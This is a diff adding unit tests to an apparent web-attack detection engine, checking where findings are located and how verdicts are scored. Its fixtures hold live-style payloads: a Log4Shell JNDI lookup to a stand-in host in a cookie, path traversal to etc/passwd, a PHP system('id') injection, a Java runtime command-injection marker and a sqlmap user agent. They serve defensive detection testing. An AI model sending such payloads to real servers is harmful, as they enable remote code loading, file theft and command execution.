@@ -5,7 +5,7 @@ import { test } from 'node:test';
 import { loadRules } from './load-rules.js';
 import { createRuleDetector } from './rule-engine.js';
 import { WEB_RULES_DIR } from './rules-dir.js';
-import { scanRequest, type RequestObject } from './scan-request.js';
+import { requestVerdict, scanRequest, type RequestObject } from './scan-request.js';
 
 // Golden test: every rule in rules/web runs on its own fixtures, with all other rules loaded
 // (as in production), so a prefilter or pattern change that breaks one rule shows here.
@@ -55,4 +55,27 @@ test('a finding carries its evidence', () => {
   assert.equal(finding.reason, '`UNION SELECT` in query parameter `id`');
   assert.equal(finding.file, 'x.jsonl');
   assert.equal(finding.line, 7);
+});
+
+test('a payload in a header, a cookie or a form body is found there and named', () => {
+  const inCookie = scanRequest(detector, { method: 'GET', uri: '/', headers: { Cookie: 'lang=fr; pref=${jndi:ldap://198.51.100.7/a}' } });
+  assert.equal(inCookie.find((f) => f.class === 'log4shell')?.location, 'cookie:pref');
+  const inHeader = scanRequest(detector, { method: 'GET', uri: '/', headers: [['X-Api-Version', 'java.lang.Runtime']] });
+  const java = inHeader.find((f) => f.rule === 'cmdi-java-runtime');
+  assert.equal(java?.location, 'header:x-api-version');
+  assert.equal(java?.reason, '`java.lang.Runtime` in header `x-api-version`');
+  const inBody = scanRequest(detector, { method: 'POST', uri: '/contact', body: 'name=x&file=..%2F..%2Fetc%2Fpasswd' });
+  assert.equal(inBody.find((f) => f.rule === 'path-traversal-dotdot')?.location, 'body:file');
+});
+
+test('requestVerdict: distinct classes and rules in order, score the sum of their severities', () => {
+  const findings = scanRequest(detector, { method: 'GET', uri: '/x?a=%3C%3Fphp+system(%27id%27)%3B&b=..%2F..%2Fetc%2Fpasswd', headers: { 'User-Agent': 'sqlmap/1.8' } });
+  const verdict = requestVerdict(findings);
+  assert.equal(verdict.attack, true);
+  assert.deepEqual(verdict.rules, [...new Set(findings.map((f) => f.rule))]);
+  assert.deepEqual(verdict.classes, [...new Set(findings.map((f) => f.class))]);
+  const severities = new Map(rules.map((r) => [r.id, r.severity]));
+  assert.equal(verdict.score, verdict.rules.reduce((s, id) => s + (severities.get(id) ?? 0), 0));
+  assert.ok(verdict.classes.includes('scanner') && verdict.classes.includes('path_traversal'));
+  assert.deepEqual(requestVerdict([]), { attack: false, classes: [], rules: [], score: 0 });
 });
